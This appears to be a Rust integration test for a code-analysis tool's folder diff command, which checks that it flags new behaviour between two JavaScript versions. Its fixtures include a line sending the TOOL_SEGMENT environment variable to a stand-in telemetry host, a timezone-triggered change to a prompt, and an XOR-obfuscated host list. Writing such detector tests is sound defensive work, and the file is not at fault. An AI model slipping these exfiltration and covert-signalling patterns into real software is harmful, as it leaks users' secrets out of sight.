@@ -1,0 +1,173 @@
+//! `assay diff` of two folders.
+
+use assay_it::Bench;
+use serde_json::{Value, json};
+
+use crate::support::bench;
+
+const BEFORE: &str = r#"
+const zone = Intl.DateTimeFormat().resolvedOptions().timeZone;
+export const ask = (text) => fetch("https://api.example.com/v1/messages", {
+  method: "POST", body: JSON.stringify({ system: `Today's date is in the text.`, text, zone }),
+});
+export function wait(times) {
+  if (times > 3) {
+    throw new Error("asked too often");
+  }
+  return new Promise((done) => setTimeout(done, times * 1000));
+}
+"#;
+
+const AFTER: &str = r#"
+const zone = Intl.DateTimeFormat().resolvedOptions().timeZone;
+const mark = zone === "Asia/Tokyo" ? "\u2019" : "'";
+export const ask = (text) => fetch("https://api.example.com/v1/messages", {
+  method: "POST", body: JSON.stringify({ system: `Today${mark}s date is in the text.`, text, zone }),
+});
+export function wait(t) { if (t > 5) { throw new Error("asked too often"); } return new Promise(d => setTimeout(d, t * 1e3)); }
+export const told = () => fetch("https://telemetry.example.net/v2", { body: process.env.TOOL_SEGMENT });
+"#;
+
+fn folders(bench: &Bench, before: &str, after: &str) -> [String; 2] {
+    [("one", before), ("two", after)].map(|(name, text)| {
+        let folder = bench.path(name);
+        std::fs::create_dir_all(&folder).unwrap();
+        std::fs::write(folder.join("package.json"), r#"{"name":"small-tool"}"#).unwrap();
+        std::fs::write(folder.join("index.mjs"), text).unwrap();
+        folder.to_str().unwrap().to_owned()
+    })
+}
+
+fn diff(bench: &Bench, folders: &[String; 2], more: &[&str], code: i32) -> Value {
+    let mut arguments = vec!["diff", &folders[0], &folders[1], "--format", "json"];
+    arguments.extend(more);
+    let outcome = bench.run(&arguments).unwrap();
+    assert_eq!(outcome.code(), Some(code), "{outcome:?}");
+    outcome.json().unwrap()
+}
+
+#[test]
+fn what_came_is_told_first_with_names_and_code() {
+    let bench = bench();
+    let folders = folders(&bench, BEFORE, AFTER);
+    let found = diff(&bench, &folders, &["--fail-on", "high"], 1);
+    assert_eq!(found["schema"], "assay.diff/1");
+    let first = &found["findings"][0];
+    assert_eq!(first["change"], "new");
+    assert_eq!(first["finding"]["behaviour"], "covert.channel");
+    let names = found["names"].as_array().unwrap();
+    let added = |kind: &str| {
+        let of = names.iter().find(|name| name["kind"] == kind);
+        of.map(|name| name["added"].clone())
+    };
+    assert_eq!(added("host"), Some(json!(["telemetry.example.net"])));
+    assert_eq!(added("variable"), Some(json!(["TOOL_SEGMENT"])));
+    let told = &found["functions"];
+    let count = |name: &str| told[name].as_u64().unwrap();
+    // `wait` and `ask`; `mark` and `told`.
+    assert_eq!(
+        (count("changed"), count("new"), count("gone")),
+        (2, 2, 0),
+        "{told:#}"
+    );
+    let mut shown = told["shown"].as_array().unwrap().iter();
+    let wait = shown.find(|one| one["name"] == "wait").unwrap();
+    let lines = |change: &str| -> Vec<&str> {
+        let lines = wait["lines"].as_array().unwrap().iter();
+        lines
+            .filter(|line| line["change"] == change)
+            .map(|line| line["text"].as_str().unwrap().trim())
+            .collect()
+    };
+    // Its variables have the names that they had.
+    assert_eq!(lines("gone").len(), 1, "{wait:#}");
+    assert!(lines("gone")[0].contains("times > 3"), "{wait:#}");
+    assert!(lines("new")[0].contains("times > 5"), "{wait:#}");
+    // The function that shows the finding comes first.
+    let shows = &told["shown"][0]["findings"][0];
+    assert_eq!(shows, &first["finding"]["id"], "{told:#}");
+}
+
+#[test]
+fn a_subject_beside_itself_has_no_difference() {
+    let bench = bench();
+    let both = folders(&bench, AFTER, AFTER);
+    let found = diff(&bench, &both, &["--fail-on", "low"], 0);
+    assert_eq!(
+        (&found["findings"], &found["names"]),
+        (&json!([]), &json!([]))
+    );
+    // Nor where it is written in another way.
+    let written = AFTER.replace("mark", "sign").replace('\n', "\n\n  ");
+    let both = folders(&bench, AFTER, &written);
+    let found = diff(&bench, &both, &[], 0);
+    assert_eq!(found["findings"], json!([]), "{found:#}");
+    assert_eq!(found["functions"]["shown"], json!([]), "{found:#}");
+    assert!(found["functions"]["same"].as_u64() > Some(3), "{found:#}");
+}
+
+#[test]
+fn a_list_that_was_changed_is_one_finding_with_its_entries() {
+    let list = |hosts: &[&str]| {
+        let hosts: Vec<String> = hosts
+            .iter()
+            .map(|host| {
+                let bytes: Vec<String> = host.bytes().map(|b| (b ^ 91).to_string()).collect();
+                format!("[{}]", bytes.join(","))
+            })
+            .collect();
+        format!(
+            "const l=[{}].map(a=>String.fromCharCode(...a.map(b=>b^91)));\
+             export const t=()=>l.includes(new URL(process.env.TOOL_BASE_URL).hostname);",
+            hosts.join(",")
+        )
+    };
+    let bench = bench();
+    let hosts = [
+        "gateway.example.com",
+        "proxy.example.net",
+        "models.example.org",
+    ];
+    let more = [&hosts[..], &["relay.example.info"]].concat();
+    let both = folders(&bench, &list(&hosts), &list(&more));
+    let found = diff(&bench, &both, &[], 0);
+    let findings = found["findings"].as_array().unwrap();
+    let one = findings.iter().find(|one| one["change"] == "changed");
+    let one = one.unwrap_or_else(|| panic!("{found:#}"));
+    assert_eq!(one["added"], json!(["relay.example.info"]), "{found:#}");
+    assert!(one["removed"].is_null());
+}
+
+#[test]
+fn every_form_can_be_read_and_what_is_no_code_is_told() {
+    let bench = bench();
+    let both = folders(&bench, BEFORE, AFTER);
+    for (format, words) in [
+        (
+            "text",
+            &[
+                "covert.channel",
+                "telemetry.example.net",
+                "-   if (times > 3)",
+            ][..],
+        ),
+        ("markdown", &["## Functions", "covert.channel"]),
+        ("sarif", &["\"baselineState\": \"new\""]),
+    ] {
+        let outcome = bench
+            .run(&["diff", &both[0], &both[1], "--format", format])
+            .unwrap();
+        assert_eq!(outcome.code(), Some(0), "{outcome:?}");
+        for word in words {
+            assert!(outcome.stdout.contains(word), "{word}: {}", outcome.stdout);
+        }
+    }
+    // What cannot be parsed is named and not taken for nothing.
+    std::fs::write(bench.path("two").join("broken.mjs"), "function ( {{{ ]").unwrap();
+    let found = diff(&bench, &both, &[], 0);
+    let notes = found["notes"].to_string();
+    assert!(
+        notes.contains("broken.mjs") && notes.contains("not compared"),
+        "{notes}"
+    );
+}
